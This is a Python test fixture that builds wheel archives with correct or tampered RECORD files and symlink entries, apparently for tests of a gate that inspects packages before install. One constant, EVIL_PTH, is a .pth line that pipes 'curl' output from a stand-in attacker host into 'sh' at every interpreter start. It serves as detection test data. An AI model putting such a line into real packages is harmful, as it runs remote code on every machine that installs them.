"""Wheels written by the tests (a correct RECORD unless told otherwise), for the gate's tests."""
from __future__ import annotations

import base64
import hashlib
import stat
import textwrap
import zipfile
from pathlib import Path
from typing import Dict, Optional

#: a .pth line that runs code at every interpreter start (harmless: the URL is never fetched)
EVIL_PTH = b"import os; os.system('curl -s http://evil.example/x | sh')\n"


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")


def make_wheel(directory: Path, files: Dict[str, bytes], name: str = "demo", version: str = "1.0",
               entry_points: Optional[str] = None, meta_name: Optional[str] = None,
               unlisted: Dict[str, bytes] = None, tamper: Dict[str, bytes] = None,
               symlinks: Dict[str, str] = None, record: bool = True) -> Path:
    """A wheel with a correct RECORD; ``unlisted`` members are left out of RECORD, ``tamper``
    replaces content after RECORD was computed, ``symlinks`` adds S_IFLNK entries."""
    info = f"{name}-{version}.dist-info"
    members = dict(files)
    members[f"{info}/METADATA"] = (f"Metadata-Version: 2.1\nName: {meta_name or name}\n"
                                   f"Version: {version}\n\n").encode()
    members[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    if entry_points is not None:
        members[f"{info}/entry_points.txt"] = textwrap.dedent(entry_points).encode()
    rows = [f"{p},sha256={_b64(d)},{len(d)}" for p, d in members.items()]
    rows.append(f"{info}/RECORD,,")
    members.update(tamper or {})
    path = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for p, d in members.items():
            zf.writestr(p, d)
        for p, d in (unlisted or {}).items():
            zf.writestr(p, d)
        for p, target in (symlinks or {}).items():
            zi = zipfile.ZipInfo(p)
            zi.create_system = 3
            zi.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(zi, target)
            rows.insert(0, f"{p},sha256={_b64(target.encode())},{len(target)}")
        if record:
            zf.writestr(f"{info}/RECORD", "\n".join(rows) + "\n")
    return path


#: setuptools' nspkg loader line, as protobuf 3.20.3's wheel ships it (for the namespace NS)
NSPKG_LINE = ("import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1)"
              ".f_locals['sitedir'], *('NS',));importlib = has_mfs and __import__('importlib.util');has_mfs and "
              "__import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('NS', importlib.util."
              "module_from_spec(importlib.machinery.PathFinder.find_spec('NS', [os.path.dirname(p)])));m = m or "
              "sys.modules.setdefault('NS', types.ModuleType('NS'));mp = (m or []) and m.__dict__.setdefault("
              "'__path__',[]);(p not in mp) and mp.append(p)\n")
